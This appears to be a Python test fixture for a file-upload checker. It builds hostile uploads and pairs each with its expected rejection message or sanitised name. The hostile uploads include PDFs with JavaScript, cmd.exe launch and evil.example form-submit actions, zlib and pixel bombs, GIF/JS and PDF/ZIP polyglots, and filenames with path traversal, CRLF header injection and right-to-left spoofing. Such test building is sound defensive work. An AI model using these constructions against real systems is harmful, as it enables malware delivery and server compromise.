"""Hostile files: what somebody might upload, made here byte by byte."""

import io
import zipfile
import zlib

import pikepdf
from django.core.files.uploadedfile import SimpleUploadedFile
from pikepdf import Array, Dictionary, Name
from PIL import Image

from tests.applications.files.test_evidence import LOOPED, document, picture, png_of

SCRIPT = "app.alert('run')"
TAG = "<img src=x onerror=alert(1)>"


def sent(data, name="证书.pdf", content_type="application/pdf"):
    """Bytes as an upload that calls itself something."""
    return SimpleUploadedFile(name, data, content_type)


def pdf(change=None, pages=1, **options):
    """The bytes of a PDF that `change(pdf)` has made hostile."""
    with pikepdf.new() as made:
        for _ in range(pages):
            made.add_blank_page(page_size=(595, 842))
        if change:
            change(made)
        out = io.BytesIO()
        made.save(out, **options)
        return out.getvalue()


def action(kind, **keys):
    return Dictionary(S=Name(f"/{kind}"), **keys)


def annotation(made, subtype, **keys):
    """Put an annotation on the first page; return it."""
    made.pages[0].Annots = Array(
        [
            made.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=Name(f"/{subtype}"), Rect=[0, 0, 9, 9], **keys)
            )
        ]
    )
    return made.pages[0].Annots[0]


def set_root(name, value):
    return lambda made: made.Root.__setitem__(f"/{name}", value)


def with_attachment(made):
    made.attachments["a.exe"] = b"MZ"


def with_field_action(made):
    made.Root.AcroForm = Dictionary(
        Fields=[
            made.make_indirect(
                Dictionary(FT=Name.Tx, T="a", AA=Dictionary(K=action("JavaScript", JS=SCRIPT)))
            )
        ]
    )


def with_bomb(made):
    """One stream of less than a megabyte that unpacks to 600."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    made.pages[0].Contents = pikepdf.Stream(made, head + block * 600)
    made.pages[0].Contents.Filter = Name.FlateDecode


def with_double_bomb(made):
    once = zlib.compress(zlib.compress(bytes(10 << 20), 9), 9)
    made.pages[0].Contents = pikepdf.Stream(made, once)
    made.pages[0].Contents.Filter = Array([Name.FlateDecode, Name.FlateDecode])


def with_huge_picture(made):
    stream = pikepdf.Stream(made, b"\x00")
    stream.Type, stream.Subtype = Name.XObject, Name.Image
    stream.Width = stream.Height = 60_000
    stream.BitsPerComponent, stream.ColorSpace, stream.Filter = 1, Name.DeviceGray, Name.DCTDecode
    made.pages[0].Resources = Dictionary(XObject=Dictionary(I=made.make_indirect(stream)))


def many_objects():
    """A PDF of more objects than a form has; built as text, for pikepdf drops the unused."""
    count = 201_000
    out = [b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/Many["]
    out += [b"%d 0 R " % number for number in range(4, count)]
    out.append(b"]>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n")
    out.append(b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n")
    out += [b"%d 0 obj 0 endobj\n" % number for number in range(4, count)]
    out.append(b"trailer<</Root 1 0 R/Size %d>>\n%%%%EOF" % count)
    return b"".join(out)


def with_link(made, address="https://evil.example/"):
    annotation(made, "Link", A=action("URI", URI=address))


def signed_link(made):
    with_link(made, "smb://evil.example/share")
    made.Root.AcroForm = Dictionary(
        Fields=[
            made.make_indirect(
                Dictionary(FT=Name.Sig, T="s", V=Dictionary(Type=Name.Sig, ByteRange=[0, 1, 2, 3]))
            )
        ]
    )


def archive(*names):
    """The bytes of a ZIP of members with these names."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name in names or ("a.html", "b/c.pdf"):
            made.writestr(name, "x")
    return out.getvalue()


def with_macros():
    return archive("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")


def archive_behind(data):
    """A file that can be unpacked as a ZIP as well: its offsets count from the file's start."""
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as made:
        made.writestr("a.html", "<script>alert(1)</script>")
    return out.getvalue()


def animation():
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def gif_with_script():
    return b"GIF89a/*" + bytes(20) + b"*/=1;alert(1)//"


JS = Dictionary(S=Name.JavaScript, JS=SCRIPT)
# name: (the bytes, the file's name, what it calls itself, what the answer says)
REFUSED = {
    "a page": (lambda: b"<html><script>alert(1)</script>", "a.pdf", "application/pdf", "网页文件"),
    "a picture with scripts": (
        lambda: b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
        "a.svg", "image/svg+xml", "这是 SVG 图形。",
    ),
    "a program": (lambda: b"MZ" + bytes(600), "a.pdf", "application/pdf", "实际是程序"),
    "a script": (lambda: b"#!/bin/sh\nid\n", "a.jpg", "image/jpeg", "实际是纯文本"),
    "a document with macros": (with_macros, "a.docm", "application/msword", "这是 Word 文档"),
    "GIF and JavaScript": (gif_with_script, "a.gif", "image/gif", "图片已损坏"),
    "GIF that calls itself PNG": (gif_with_script, "a.png", "image/png", "图片已损坏"),
    "PDF not at its start": (
        lambda: b"GIF89a<script>" + pdf(), "a.pdf", "application/pdf", "图片已损坏",
    ),
    "PDF and ZIP": (lambda: archive_behind(pdf()), "a.pdf", "application/pdf", "夹带了压缩包"),
    "JPEG and ZIP": (
        lambda: archive_behind(picture("JPEG")), "a.jpg", "image/jpeg", "夹带了压缩包",
    ),
    "nothing": (lambda: b"", "a.pdf", "application/pdf", "空的"),
    "script at opening": (
        lambda: pdf(set_root("OpenAction", JS)), "a.pdf", "application/pdf", "含有脚本",
    ),
    "script by name": (
        lambda: pdf(lambda made: made.Root.__setitem__(
            "/Names", Dictionary(JavaScript=Dictionary(Names=["a", JS]))
        )),
        "a.pdf", "application/pdf", "含有脚本",
    ),
    "script spelt in hex": (
        lambda: pdf(set_root("OpenAction", JS)).replace(b"/JavaScript", b"/J#61vaScript"),
        "a.pdf", "application/pdf", "含有脚本",
    ),
    "script in packed objects": (
        lambda: pdf(
            set_root("OpenAction", JS), object_stream_mode=pikepdf.ObjectStreamMode.generate
        ),
        "a.pdf", "application/pdf", "含有脚本",
    ),
    "script when a page is shown": (
        lambda: pdf(lambda made: made.pages[0].obj.__setitem__("/AA", Dictionary(O=JS))),
        "a.pdf", "application/pdf", "含有脚本",
    ),
    "script in a field": (lambda: pdf(with_field_action), "a.pdf", "application/pdf", "含有脚本"),
    "script in an annotation": (
        lambda: pdf(lambda made: annotation(made, "Text", AA=Dictionary(E=JS))),
        "a.pdf", "application/pdf", "含有脚本",
    ),
    "launches a program": (
        lambda: pdf(lambda made: annotation(made, "Link", A=action("Launch", F="cmd.exe"))),
        "a.pdf", "application/pdf", "含有脚本",
    ),
    "sends its form": (
        lambda: pdf(set_root("OpenAction", action("SubmitForm", F="https://evil.example"))),
        "a.pdf", "application/pdf", "含有脚本",
    ),
    "opens another document": (
        lambda: pdf(set_root("OpenAction", action("GoToR", F="//evil/share/a.pdf"))),
        "a.pdf", "application/pdf", "含有脚本",
    ),
    "an attachment": (lambda: pdf(with_attachment), "a.pdf", "application/pdf", "附件"),
    "an attached note": (
        lambda: pdf(lambda made: annotation(made, "FileAttachment")),
        "a.pdf", "application/pdf", "附件",
    ),
    "XFA": (
        lambda: pdf(set_root("AcroForm", Dictionary(XFA="<xdp/>"))),
        "a.pdf", "application/pdf", "含有脚本",
    ),
    "rich media": (
        lambda: pdf(lambda made: annotation(made, "RichMedia")),
        "a.pdf", "application/pdf", "音视频",
    ),
    "a film": (
        lambda: pdf(lambda made: annotation(made, "Screen", A=action("Rendition"))),
        "a.pdf", "application/pdf", "音视频",
    ),
    "a signed link to a share": (lambda: pdf(signed_link), "a.pdf", "application/pdf", "电子签章"),
    "encrypted": (
        lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="u")),
        "a.pdf", "application/pdf", "已加密",
    ),
    "pages without end": (lambda: LOOPED, "a.pdf", "application/pdf", "已损坏"),
    "brackets without end": (
        lambda: b"%PDF-1.4\n1 0 obj" + b"[" * 500_000, "a.pdf", "application/pdf", "已损坏",
    ),
    "too many pages": (lambda: pdf(pages=501), "a.pdf", "application/pdf", "501 页"),
    "too many objects": (many_objects, "a.pdf", "application/pdf", "过于复杂"),
    "a bomb": (lambda: pdf(with_bomb), "a.pdf", "application/pdf", "展开后过大"),
    "a picture of 3600 million pixels in it": (
        lambda: pdf(with_huge_picture), "a.pdf", "application/pdf", "展开后过大",
    ),
    "cut off": (lambda: document(9)[:6000], "a.pdf", "application/pdf", "不完整"),
    "pixel bomb": (lambda: png_of(60_000, 60_000), "a.png", "image/png", "万像素"),
    "half a picture": (lambda: picture("JPEG")[:-9000], "a.jpg", "image/jpeg", "已损坏"),
    "a picture's head alone": (
        lambda: b"\x89PNG\r\n\x1a\n", "a.png", "image/png", "已损坏",
    ),
}  # fmt: skip
# name: (the bytes, the file's name, the name that it is kept under)
KEPT = {
    "animation": (animation, "a.png", "a.png"),
    "a folder in its name": (pdf, "../../../etc/cron.d/a.pdf", "a.pdf"),
    "a Windows folder in its name": (pdf, "C:\\Windows\\System32\\a.pdf", "a.pdf"),
    "a name read backwards": (pdf, "报告\u202efdp.exe", "报告fdp.pdf"),
    "a name that cannot be seen": (pdf, "\u200b\u200d\ufeff.pdf", "pdf.pdf"),
    "a device's name": (pdf, "CON.pdf", "文件 CON.pdf"),
    "a name of 300 characters": (pdf, "长" * 300 + ".pdf", "长" * 78 + ".pdf"),
    "a name with a tag": (pdf, f"{TAG}.pdf", f"{TAG}.pdf"),
    "a name with a line break": (pdf, "a\r\nSet-Cookie: x=1.pdf", '"a.pdf'),
    "a name with quotes": (pdf, 'a"; filename="b.html.pdf', "b.pdf"),
    "a name without an end": (pdf, "证书", "证书.pdf"),
    "an end that lies": (lambda: picture("JPEG"), "病毒.exe", "病毒.jpg"),
    "a type that lies": (pdf, "页面.html", "页面.pdf"),
    "JPEG with a page behind": (
        lambda: picture("JPEG") + b"<html><script>alert(1)</script>", "a.jpg", "a.jpg",
    ),
    "PDF with a page in its comment": (
        lambda: pdf() + b"\n%<html><script>alert(1)</script>",
        "a.pdf", "a.pdf",
    ),
    "a link to an address": (lambda: pdf(with_link), "a.pdf", "a.pdf"),
    "a link that runs a script": (
        lambda: pdf(lambda made: with_link(made, "javascript:alert(1)")), "a.pdf", "a.pdf",
    ),
    "a link with a script behind it": (
        lambda: pdf(lambda made: annotation(made, "Link", A=action("URI", URI="a", Next=[JS]))),
        "a.pdf", "a.pdf",
    ),
    "a bomb within limits": (lambda: pdf(with_double_bomb), "a.pdf", "a.pdf"),
}  # fmt: skip
